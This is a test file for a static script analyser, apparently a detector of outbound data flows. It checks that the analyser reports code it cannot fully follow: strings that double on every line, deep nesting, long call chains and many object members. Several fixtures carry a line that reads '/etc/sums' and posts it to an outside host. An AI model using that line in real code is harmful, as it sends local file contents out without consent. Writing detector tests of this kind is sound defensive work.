import { beforeAll, expect, test } from 'vitest';
import { analyseCode } from './analysis.ts';
import { CODE_LIMITS } from './code-limits.ts';
import type { CodeLanguage } from './language.ts';
import { loadParser } from './syntax-tree.ts';

beforeAll(loadParser);

const analyse = (language: CodeLanguage, text: string) =>
  analyseCode([{ file: 'scripts/a', line: 1, language, text }]);
const IN_PART = [expect.objectContaining({ file: 'scripts/a', reason: 'in-part' })];
const SENDS =
  "import requests\nrequests.post('https://sums.tables-tool.info/in', data=open('/etc/sums').read())";

test.each<[CodeLanguage, string, string]>([
  ['javascript', 'let a = "xx";\n', `a = \`\${a}\${a}\`;\n`],
  ['python', 'a = "xx"\n', 'a = "%s%s" % (a, a)\n'],
  ['python', 'a = "xx"\n', 'a = a.join([a, a, a])\n'],
  ['python', 'a = "xx"\n', 'a = a.replace("x", a)\n'],
  ['shell', 'a=xx\n', 'a="$a$a"\n'],
  ['powershell', '$a = "xx"\n', '$a = "$a$a"\n'],
])(
  'a text in %s that doubles with each line is put together up to a limit, and that is told',
  (language, first, line) => {
    const end = language === 'python' ? SENDS : '';
    const { effects, notUnderstood } = analyse(language, `${first}${line.repeat(2_000)}${end}`);
    expect(notUnderstood).toEqual(IN_PART);
    // What does not hang on the text is followed all the same.
    if (end !== '') expect(effects.map(({ kind }) => kind)).toContain('request');
  },
);

test('what is done after more than is kept is told of', () => {
  const many = `${"open('/tmp/x', 'w').write('x')\n".repeat(CODE_LIMITS.effects + 1)}${SENDS}\n`;
  expect(analyse('python', many).notUnderstood).toEqual(IN_PART);
});

test('what lies deeper than is followed is told of', () => {
  const nested = (depth: number) =>
    `${'if (a) {'.repeat(depth)}fetch('https://sums.tables-tool.info')${'}'.repeat(depth)}`;
  expect(analyse('javascript', nested(90)).effects).toHaveLength(1);
  expect(analyse('javascript', nested(90)).notUnderstood).toEqual([]);
  expect(analyse('javascript', nested(CODE_LIMITS.treeDepth)).notUnderstood).toEqual(IN_PART);
});

test('functions that call each other are followed as deep as is said, and deeper calls are told of', () => {
  const calls = (depth: number) =>
    `${SENDS.split('\n')[0]}\ndef f0(d):\n  requests.post('https://sums.tables-tool.info/in', data=d)\n${Array.from({ length: depth }, (_, at) => `def f${at + 1}(d):\n  f${at}(d)\n`).join('')}f${depth}(open('/etc/sums').read())\n`;
  expect(analyse('python', calls(14)).notUnderstood).toEqual([]);
  expect(analyse('python', calls(CODE_LIMITS.callDepth + 1)).notUnderstood).toEqual(IN_PART);
});

test('a call of itself is no depth', () => {
  const { notUnderstood } = analyse('python', 'def f(n):\n  return f(n - 1) + f(n - 2)\nprint(f(9))\n');
  expect(notUnderstood).toEqual([]);
});

test('an object that is given many members keeps the first and the last', () => {
  const members = Array.from(
    { length: 1_000 },
    (_, at) => `a.k${at} = 'https://h${at}.tables-tool.info';`,
  ).join('\n');
  const { effects } = analyse('javascript', `const a = {};\n${members}\nfetch(a.k0); fetch(a.k999);`);
  expect(JSON.stringify(effects)).toContain('h0.tables');
  expect(JSON.stringify(effects)).toContain('h999.tables');
});
